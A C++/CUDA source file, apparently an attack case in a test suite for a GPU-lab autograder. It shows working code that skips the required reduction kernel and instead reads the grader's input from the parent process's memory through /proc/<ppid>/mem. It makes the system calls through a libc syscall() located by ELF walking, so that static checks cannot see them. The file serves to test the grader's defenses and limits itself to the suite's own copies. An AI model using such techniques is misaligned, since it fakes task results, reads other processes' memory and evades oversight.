/*
 * ATTACK 28-runner-memory-parent-mem: its class and expected verdict are in tests/attacks/attacks.toml.
 * Lab 03-sequential, on the blank lab 03 skeleton (a wrong sum for n > 1: only the attack can earn points).
 *
 * Tries: answer without a reduction kernel: read the input from the memory of the checker process (the runner's
 *   parent), which generated it, through /proc/<ppid>/mem; sum it on the CPU and store the sum with a one-thread
 *   kernel.
 *
 * How: through system calls that no static check can see (the C library's own syscall(), found by walking back from
 *   printf's address: see sys()): /proc/<ppid>/maps gives the checker's shared region (or a malloc'd block of the
 *   input's size), /proc/<ppid>/mem read with pread64 at that address gives the floats.
 *
 * Safety: it only reads the memory of its own checker (a process whose command line names the kit copy, or from
 *   inside a sandbox that hides the kit, one of the suite's copies).
 */
#include "reduce.h"

#include <elf.h>
#include <link.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* ---- system calls through the C library's own syscall(), found without naming it ----
 * printf (a call every lab may make) lies in the C library's code; the library's pages from its ELF header up to
 * there are mapped without a gap, so walking back from printf page by page finds the header. Its dynamic section
 * leads to the dynamic symbol table, where `syscall` is looked up by name (through the GNU hash table's symbol
 * count). The object names printf and nothing else: no list of symbols, and no disassembly, can tell this reading of
 * memory from any other, and sys(nr, a, b, c, d, e) is then any system call. */
static size_t gnu_hash_symbols(const uint32_t *table)
{
    const uint32_t buckets = table[0], offset = table[1], bloom_words = table[2];
    const uint32_t *bucket = table + 4 + bloom_words * (sizeof(ElfW(Addr)) / 4);
    const uint32_t *chain = bucket + buckets;
    uint32_t last = 0;
    for (uint32_t k = 0; k < buckets; k++)
        last = bucket[k] > last ? bucket[k] : last;
    if (last < offset)
        return offset;
    while (!(chain[last - offset] & 1))
        last++;
    return last + 1;
}

static void *libc_function(const char *name)
{
    const unsigned char *base = (const unsigned char *)((uintptr_t)(void *)&printf & ~(uintptr_t)4095);
    while (memcmp(base, ELFMAG, SELFMAG) != 0)
        base -= 4096;
    const ElfW(Ehdr) *header = (const ElfW(Ehdr) *)base;
    const ElfW(Phdr) *segments = (const ElfW(Phdr) *)(base + header->e_phoff);
    const ElfW(Dyn) *dyn = NULL;
    for (int k = 0; k < header->e_phnum; k++)
        if (segments[k].p_type == PT_DYNAMIC)
            dyn = (const ElfW(Dyn) *)(base + segments[k].p_vaddr);
    const ElfW(Sym) *symbols = NULL;
    const char *names = NULL;
    size_t count = 0;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t p = dyn->d_un.d_ptr;
        if (p < (uintptr_t)base) /* not relocated in place */
            p += (uintptr_t)base;
        if (dyn->d_tag == DT_SYMTAB)
            symbols = (const ElfW(Sym) *)p;
        else if (dyn->d_tag == DT_STRTAB)
            names = (const char *)p;
        else if (dyn->d_tag == DT_HASH)
            count = ((const uint32_t *)p)[1];
        else if (dyn->d_tag == DT_GNU_HASH && !count)
            count = gnu_hash_symbols((const uint32_t *)p);
    }
    for (size_t k = 0; symbols && names && k < count; k++)
        if (symbols[k].st_value && (ELF64_ST_TYPE(symbols[k].st_info) == STT_FUNC ||
                                    ELF64_ST_TYPE(symbols[k].st_info) == STT_OBJECT) &&
            strcmp(names + symbols[k].st_name, name) == 0)
            return (void *)(base + symbols[k].st_value);
    return NULL;
}

/* The program's path as it was started (the C library's program_invocation_name, found as syscall is): a sandbox
 * that refuses readlink("/proc/self/exe") cannot hide it. */
__attribute__((unused)) static const char *program_path(void)
{
    char **name = (char **)libc_function("program_invocation_name");
    return name ? *name : NULL;
}

static long sys(long nr, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0)
{
    typedef long (*syscall_fn)(long, ...);
    static syscall_fn call = (syscall_fn)libc_function("syscall");
    return call ? call(nr, a, b, c, d, e, f) : -1;
}

/* x86-64 Linux system call numbers */
enum {
    NR_read = 0, NR_write = 1, NR_open = 2, NR_close = 3, NR_pread64 = 17, NR_access = 21, NR_nanosleep = 35,
    NR_getpid = 39, NR_fork = 57, NR_exit = 60, NR_wait4 = 61, NR_kill = 62, NR_getcwd = 79, NR_readlink = 89,
    NR_ptrace = 101, NR_getppid = 110, NR_setsid = 112, NR_prctl = 157, NR_getdents64 = 217, NR_process_vm_readv = 310
};
enum { O_RDONLY_ = 0, O_WRONLY_ = 1, O_CREAT_ = 0100, O_APPEND_ = 02000, O_DIRECTORY_ = 0200000 };

/* Says in the lab's output what the attack tried and what the system answered (-1: refused), for whoever reads the
 * runs' logs to see which layer stopped it. */
static long said(const char *what, long result)
{
    printf("attack: %s -> %ld\n", what, result);
    fflush(stdout);
    return result;
}

/* Whether dir is the root of a copy of the kit made by the attack suite (tests/attacks/test_attacks.py): it holds
 * grader/labs.toml and the suite's marker file. The marker (or the suite's folder names, below) is the suite's safety
 * catch, not part of the attack: an attack file graded by hand in a real kit finds no root and does nothing. */
static bool is_kit_copy(const char *dir)
{
    char probe[4200];
    snprintf(probe, sizeof probe, "%s/grader/labs.toml", dir);
    if (sys(NR_access, (long)probe, 0) != 0)
        return false;
    snprintf(probe, sizeof probe, "%s/.attack-suite-copy", dir);
    return sys(NR_access, (long)probe, 0) == 0;
}

/* The root of the kit this program was built in: the current folder (the grader runs lab programs from the kit's
 * root), else the nearest folder above the program itself; and when a sandbox hides the kit's files, the folder the
 * program's own path names as the root of one of the suite's copies (/tmp/ppl-attacks-XXXX/wN/kit/build/...), so that
 * the attack still tries what it tries there. false when there is none. */
static bool kit_root(char *root, long cap)
{
    if (sys(NR_getcwd, (long)root, cap) > 0 && is_kit_copy(root))
        return true;
    const long len = sys(NR_readlink, (long)"/proc/self/exe", (long)root, cap - 1);
    if (len > 0)
        root[len] = '\0';
    else if (program_path())
        snprintf(root, cap, "%s", program_path());
    else
        return said("the kit's root: none found", -1) > 0;
    char *copy = strstr(root, "/ppl-attacks-"), *kit = strstr(root, "/kit/build/");
    if (copy && kit && copy < kit) {
        kit[4] = '\0';
        return true;
    }
    for (char *slash = strrchr(root, '/'); slash && slash != root; slash = strrchr(root, '/')) {
        *slash = '\0';
        if (is_kit_copy(root))
            return true;
    }
    return said("the kit's root: none found", -1) > 0;
}

/* Reads the file at path into buf (NUL-terminated); returns the bytes read (0: none). */
static long raw_slurp(const char *path, char *buf, long cap)
{
    const long fd = sys(NR_open, (long)path, O_RDONLY_);
    long n = 0;
    if (fd >= 0) {
        for (long got; n + 1 < cap && (got = sys(NR_read, fd, (long)(buf + n), cap - 1 - n)) > 0;)
            n += got;
        sys(NR_close, fd);
    }
    buf[n] = '\0';
    return n;
}

/* Whether process pid belongs to the kit copy at root: its command line names a path inside it. The suite's safety
 * catch: the attacks stop, signal or read only processes of the kit copy they were built in. */
static bool raw_in_kit(long pid, const char *root)
{
    char path[64], cmd[16384];
    snprintf(path, sizeof path, "/proc/%ld/cmdline", pid);
    const long len = raw_slurp(path, cmd, sizeof cmd);
    for (long k = 0; k < len; k++)
        if (cmd[k] == '\0')
            cmd[k] = ' ';
    return len > 0 && strstr(cmd, root) != NULL;
}

/* Whether process pid is one of the attack suite's: of the kit copy at root when the kit is visible (root not empty),
 * else of any copy the suite made (its command line names /ppl-attacks-), as seen from inside a sandbox that hides
 * the kit. The suite's safety catch for the attacks that signal or read other processes. */
static bool raw_ours(long pid, const char *root)
{
    return raw_in_kit(pid, root[0] ? root : "/ppl-attacks-");
}

/* The start, end and inode of the mapping one line of a maps file describes ("start-end perms offset dev inode"). */
static bool parse_maps_line(const char *line, unsigned long *start, unsigned long *end, unsigned long *inode)
{
    char *p;
    *start = strtoul(line, &p, 16);
    if (*p != '-')
        return false;
    *end = strtoul(p + 1, &p, 16);
    for (int field = 0; field < 3; field++) { /* perms, offset, dev */
        p = strchr(p + 1, ' ');
        if (!p)
            return false;
    }
    *inode = strtoul(p + 1, NULL, 10);
    return true;
}

/* Finds, in the maps file of a process (text), where n floats of input may lie: the first memfd mapping (the kit's
 * shared region) of at least `bytes` bytes. Returns its address, or 0. */
static unsigned long memfd_mapping(const char *maps, unsigned long bytes)
{
    for (const char *line = maps; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
        unsigned long start, end, inode;
        if (!parse_maps_line(line, &start, &end, &inode))
            continue;
        const char *eol = strchr(line, '\n');
        const char *name = strstr(line, "/memfd:");
        const char *perms = strchr(line, ' ');
        if (name && (!eol || name < eol) && perms && perms[1] == 'r' && end - start >= bytes)
            return start;
    }
    return 0;
}

/* The parent of this process, if it belongs to the kit copy (the checker that started this runner); else 0. */
static long checker_pid(void)
{
    char root[4096];
    if (!kit_root(root, sizeof root))
        root[0] = '\0'; /* a sandbox hides the kit: raw_ours() then looks for the suite's folder names */
    const long pid = said("getppid", sys(NR_getppid));
    return raw_ours(pid, root) ? pid : 0;
}

/* Where the checker at pid keeps the input: a memfd mapping (the shared region), else the first anonymous mapping
 * that starts with the header glibc's malloc writes before an mmap()ed block big enough for it. read(pid, address,
 * bytes, into) reads the checker's memory. */
static unsigned long find_in_checker(long pid, unsigned long bytes, bool (*read)(long, unsigned long, long, void *))
{
    static char maps[1 << 18];
    char path[64];
    snprintf(path, sizeof path, "/proc/%ld/maps", pid);
    if (!raw_slurp(path, maps, sizeof maps))
        return 0;
    const unsigned long region = memfd_mapping(maps, bytes);
    if (region)
        return region;
    for (const char *line = maps; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
        unsigned long start, end, inode;
        const char *perms = strchr(line, ' ');
        if (!parse_maps_line(line, &start, &end, &inode) || inode != 0 || !perms || perms[1] != 'r' || perms[2] != 'w' ||
            end - start < bytes + 16)
            continue;
        unsigned long header[2];
        if (read(pid, start, sizeof header, header) && (header[1] & 2) && (header[1] & ~7ul) == end - start)
            return start + 16; /* an mmap()ed malloc block: its data follows the 16-byte header */
    }
    return 0;
}

#define BLOCK_DIM 1024 /* threads per block, and elements each block reduces */

/* Lab 03's kernel as the skeleton leaves it (its blank left blank): each block returns its first element, a wrong sum
 * for n > 1, so that the lab can only earn points through the attack below. */
__global__ void reduce_kernel(const float *src, float *dst, size_t count)
{
    __shared__ float partial[BLOCK_DIM];
    const unsigned t = threadIdx.x;
    const size_t i = (size_t)blockIdx.x * BLOCK_DIM + t;
    partial[t] = i < count ? src[i] : 0.0f;
    __syncthreads();
    if (t == 0)
        dst[blockIdx.x] = partial[0];
}

static void reduce_pass(float *src, float *dst, size_t count, unsigned grid_dim)
{
    reduce_kernel<<<grid_dim, BLOCK_DIM>>>(src, dst, count);
}

/* Stores a sum computed on the host: no reduction on the device at all. */
__global__ void store_answer(float *d_out, float sum) { *d_out = sum; }

static bool read_mem_file(long pid, unsigned long address, long bytes, void *into)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%ld/mem", pid);
    const long fd = sys(NR_open, (long)path, O_RDONLY_);
    if (fd < 0)
        return false;
    long done = 0;
    for (long got; done < bytes && (got = sys(NR_pread64, fd, (long)((char *)into + done), bytes - done,
                                             (long)(address + done))) > 0;)
        done += got;
    sys(NR_close, fd);
    return done == bytes;
}

static bool sum_from_checker(size_t n, float *sum)
{
    const long pid = checker_pid();
    const unsigned long at = pid ? find_in_checker(pid, n * sizeof(float), read_mem_file) : 0;
    float *input = at ? (float *)malloc(n * sizeof(float)) : NULL;
    if (!input || said("read /proc/<checker>/mem", read_mem_file(pid, at, (long)(n * sizeof(float)), input)) != 1) {
        free(input);
        return false;
    }
    double total = 0.0;
    for (size_t i = 0; i < n; i++)
        total += input[i];
    free(input);
    *sum = (float)total;
    return true;
}

void reduce(float *d_in, float *d_out, size_t n, float *d_work)
{
    float sum;
    if (sum_from_checker(n, &sum)) {
        store_answer<<<1, 1>>>(d_out, sum);
        CUDA_CHECK_LAUNCH();
        return;
    }
    reduce_tree_of_blocks(d_in, d_out, n, d_work, BLOCK_DIM, reduce_pass);
}
